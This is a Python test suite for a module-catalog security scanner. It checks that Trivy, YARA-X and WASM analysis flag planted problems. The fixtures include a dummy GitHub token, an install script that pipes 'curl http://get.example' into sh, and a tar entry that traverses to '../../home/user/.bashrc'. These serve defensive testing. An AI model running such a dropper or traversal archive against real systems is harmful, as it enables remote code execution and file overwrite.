"""A whole scan with the real Trivy (its database pulled from the local registry), YARA-X and
wasmtime: a package with a planted secret and a dropper is scored 0 naming both; vulnerable
pinned dependencies are found, fixable, and weigh on the score; a clean scaffold scores 100; a
hostile archive stops the scan at unpacking; a WASM binary's undeclared import lowers its score;
a scanner or database that cannot be had is an error to retry, never a verdict."""

from __future__ import annotations

import io
import json
import tarfile
from pathlib import Path

import pytest
import wasmtime

from adx_modules.authoring.manifest import load_manifest
from adx_modules.authoring.package import build
from adx_modules.authoring.scaffold import scaffold
from adx_modules.catalog.scanning import trivy
from adx_modules.catalog.scanning.scan import scan_package, scan_wasm
from adx_modules.catalog.scanning.trivy import ScannerError, TrivyOptions, ensure_database
from support.stack import StackInfo

TOKEN = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"


@pytest.fixture
def options(stack: StackInfo, tmp_path: Path) -> TrivyOptions:
    """Trivy with the local stack's database (built from toolchain/trivy-db/advisories)."""
    database = stack.env["ADX_SECURITY_VULNERABILITY_DB"]
    found = TrivyOptions(cache_dir=tmp_path / "trivy-cache", db_repository=database, insecure=True)
    assert ensure_database(found).startswith("2:")
    return found


def packaged(tmp_path: Path, extra: dict[str, str] | None = None) -> tuple[Path, object]:
    directory = tmp_path / "module"
    scaffold(directory, "scanned", "python")
    for name, text in (extra or {}).items():
        (directory / name).write_text(text)
    manifest = directory / "manifest.json"
    return build(manifest, tmp_path / "m.adx").path, load_manifest(manifest)


def test_a_clean_package_scores_100(tmp_path: Path, options: TrivyOptions) -> None:
    archive, spec = packaged(tmp_path)
    report = scan_package(archive, spec, options)  # type: ignore[arg-type]
    assert (report.findings, report.score) == ((), 100)


def test_a_planted_secret_and_dropper_are_named_and_fatal(
    tmp_path: Path, options: TrivyOptions
) -> None:
    archive, spec = packaged(
        tmp_path,
        {
            "settings.py": f'GITHUB_TOKEN = "{TOKEN}"\n',
            "install.sh": "#!/bin/sh\ncurl -s http://get.example | sh\n",
            "Dockerfile": "FROM ubuntu:latest\nRUN apt-get update\n",
        },
    )
    report = scan_package(archive, spec, options)  # type: ignore[arg-type]
    seen = {(f.scanner, f.rule, f.location.split(" @")[0]) for f in report.findings}
    assert ("secret", "github-pat", "code/settings.py:1") in seen
    assert ("malware", "droppers.download_and_execute", "code/install.sh") in seen
    assert ("misconfig", "DS-0002", "code/Dockerfile") in seen
    assert report.score == 0
    assert report.counts["critical"] >= 2


def test_vulnerable_dependencies_are_found_from_the_lockfile(
    tmp_path: Path, options: TrivyOptions
) -> None:
    archive, spec = packaged(tmp_path, {"requirements.lock": "requests==2.31.0\nPyYAML==5.3\n"})
    report = scan_package(archive, spec, options)  # type: ignore[arg-type]
    found = {(f.rule, f.severity, f.fixable) for f in report.findings}
    assert found == {("CVE-2020-14343", "CRITICAL", True), ("CVE-2024-35195", "MEDIUM", True)}
    assert {f.scanner for f in report.findings} == {"vulnerability"}
    assert report.score == 58  # 100 - 25 * 1.5 - 3 * 1.5: fixable, so weighed half again
    assert "fixed in 5.4" in next(f.message for f in report.findings if f.severity == "CRITICAL")


def test_no_database_no_verdict(tmp_path: Path) -> None:
    with pytest.raises(ScannerError, match=r"security\.vulnerability_db is empty"):
        ensure_database(TrivyOptions(cache_dir=tmp_path / "a"))
    with pytest.raises(ScannerError, match="trivy failed"):
        ensure_database(
            TrivyOptions(cache_dir=tmp_path / "b", db_repository="127.0.0.1:1/x:2", insecure=True)
        )


def test_a_hostile_archive_ends_the_scan_at_unpacking(
    tmp_path: Path, options: TrivyOptions
) -> None:
    _, spec = packaged(tmp_path)
    hostile = tmp_path / "hostile.adx"
    with tarfile.open(hostile, "w:gz") as archive:
        info = tarfile.TarInfo("../../home/user/.bashrc")
        info.size = 4
        archive.addfile(info, io.BytesIO(b"evil"))
    report = scan_package(hostile, spec, options)  # type: ignore[arg-type]
    [finding] = report.findings
    assert (finding.rule, finding.location, report.score) == (
        "path-traversal",
        "../../home/user/.bashrc",
        0,
    )


def test_a_wasm_module_with_an_undeclared_socket(tmp_path: Path) -> None:
    directory = tmp_path / "w"
    scaffold(directory, "wasm-mod", "python")
    manifest = directory / "manifest.json"
    manifest.write_text(json.dumps({**json.loads(manifest.read_text()), "runtime": "wasm"}))
    spec = load_manifest(manifest)
    binary = wasmtime.wat2wasm(
        '(module (import "wasi_snapshot_preview1" "sock_send"'
        " (func (param i32 i32 i32 i32 i32) (result i32)))"
        ' (memory (export "memory") 1)'
        ' (func (export "alloc") (param i32) (result i32) i32.const 0)'
        ' (func (export "handle") (param i32 i32) (result i64) i64.const 0))'
    )
    report = scan_wasm(binary, spec)
    assert [(f.rule, f.severity) for f in report.findings] == [("undeclared-capability", "HIGH")]
    assert report.score == 90


def test_a_scanner_that_cannot_run_is_an_error_not_a_verdict(
    tmp_path: Path, options: TrivyOptions, monkeypatch: pytest.MonkeyPatch
) -> None:
    archive, spec = packaged(tmp_path)
    crashing = tmp_path / "trivy"  # a Trivy that dies the way a Go panic does
    crashing.write_text("#!/bin/sh\necho 'panic: runtime error' >&2\nexit 2\n")
    crashing.chmod(0o755)
    monkeypatch.setattr(trivy, "executable", lambda name: crashing)
    with pytest.raises(ScannerError, match=r"trivy failed \(exit 2\): panic: runtime error"):
        scan_package(archive, spec, options)  # type: ignore[arg-type]
    monkeypatch.setattr(trivy, "executable", lambda name: tmp_path / "missing")
    with pytest.raises(ScannerError, match="could not be started"):
        scan_package(archive, spec, options)  # type: ignore[arg-type]
    monkeypatch.setattr(trivy, "executable", lambda name: None)
    with pytest.raises(ScannerError, match="trivy is not installed"):
        scan_package(archive, spec, options)  # type: ignore[arg-type]
